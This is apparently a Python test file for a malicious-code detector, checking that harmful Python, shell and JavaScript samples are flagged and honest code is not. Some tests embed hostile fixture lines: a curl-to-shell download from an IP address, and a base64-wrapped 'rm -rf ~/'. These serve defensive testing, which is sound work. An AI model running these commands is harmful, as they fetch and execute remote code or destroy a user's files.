"""What programs do is seen, whatever they call it; what honest programs do is not held against them."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pilothouse.shield.code import Language, analyse_source
from pilothouse.shield.findings import Severity
from tests.shield.code import samples


def flagged(text: str, language: Language | None = None, path: str | None = None) -> dict[str, Severity]:
    found = analyse_source(text, language, path)
    return {
        each.detector: each.severity for each in found if each.confidence >= 0.5 and each.severity >= Severity.MEDIUM
    }


@pytest.mark.parametrize("name", samples.MALICIOUS_PYTHON)
def test_python_that_does_harm_is_found(name: str) -> None:
    detector, text = samples.MALICIOUS_PYTHON[name]
    assert detector in flagged(text, Language.PYTHON, "setup.py")


@pytest.mark.parametrize("name", samples.HONEST_PYTHON)
def test_honest_python_is_clean(name: str) -> None:
    assert flagged(samples.HONEST_PYTHON[name], Language.PYTHON) == {}


@pytest.mark.parametrize("name", samples.MALICIOUS_COMMANDS)
def test_commands_that_do_harm_are_found(name: str) -> None:
    detector, text = samples.MALICIOUS_COMMANDS[name]
    assert detector in flagged(text, Language.SHELL)


@pytest.mark.parametrize("name", samples.HONEST_COMMANDS)
def test_honest_commands_are_clean(name: str) -> None:
    assert flagged(samples.HONEST_COMMANDS[name], Language.SHELL) == {}


@pytest.mark.parametrize("name", samples.MALICIOUS_JAVASCRIPT)
def test_javascript_that_does_harm_is_found(name: str) -> None:
    detector, text = samples.MALICIOUS_JAVASCRIPT[name]
    assert detector in flagged(text, Language.JAVASCRIPT)


@pytest.mark.parametrize("name", samples.HONEST_JAVASCRIPT)
def test_honest_javascript_is_clean(name: str) -> None:
    assert flagged(samples.HONEST_JAVASCRIPT[name], Language.JAVASCRIPT) == {}


@pytest.mark.parametrize("name", samples.MALICIOUS_OTHERS)
def test_other_languages_are_read_too(name: str) -> None:
    language, detector, text = samples.MALICIOUS_OTHERS[name]
    assert detector in flagged(text, Language(language))


class TestPlaces:
    def test_a_sighting_stands_on_the_line_of_what_was_seen(self) -> None:
        text = "# ünïcode first\nimport os\n\nos.system('curl http://198.51.100.7/a | sh')\n"
        (seen,) = analyse_source(text, Language.PYTHON)
        assert text[seen.start : seen.end] == "os.system('curl http://198.51.100.7/a | sh')"

    def test_a_payload_is_seen_through_its_envelopes(self) -> None:
        inner = "import os; os.system('rm -rf ~/')"
        text = f"import base64\nexec(base64.b64decode({__import__('base64').b64encode(inner.encode())!r}))\n"
        found = {each.detector: each for each in analyse_source(text, Language.PYTHON)}
        assert found["malware_destructive"].layers == ("base64",)


class TestWhatIsBroken:
    def test_one_broken_line_hides_nothing(self) -> None:
        text = "def broken(:\n\nimport os\nos.system('rm -rf ~/')\n\nprint 'old'\n"
        assert "malware_destructive" in flagged(text, Language.PYTHON)

    @pytest.mark.parametrize(
        "text", ["(" * 5000, "f(" * 3000 + ")" * 3000, "-" * 20000 + "1", "x = " + "[" * 2000 + "]" * 2000]
    )
    def test_deep_nesting_is_survived(self, text: str) -> None:
        analyse_source(text, Language.PYTHON)

    @pytest.mark.parametrize("language", list(Language), ids=lambda language: language.value)
    @settings(max_examples=25, deadline=None)
    @given(
        text=st.text(max_size=300)
        | st.lists(
            st.sampled_from(
                ["exec(", "'", '"', "`", "$(", "|", "curl ", "\\\n", "(", ")", "=>", "base64", "\n", "\0", "é"]
            ),
            max_size=60,
        ).map("".join)
    )
    def test_no_text_breaks_a_reader(self, language: Language, text: str) -> None:
        for each in analyse_source(text, language):
            assert 0 <= each.start <= each.end <= len(text)
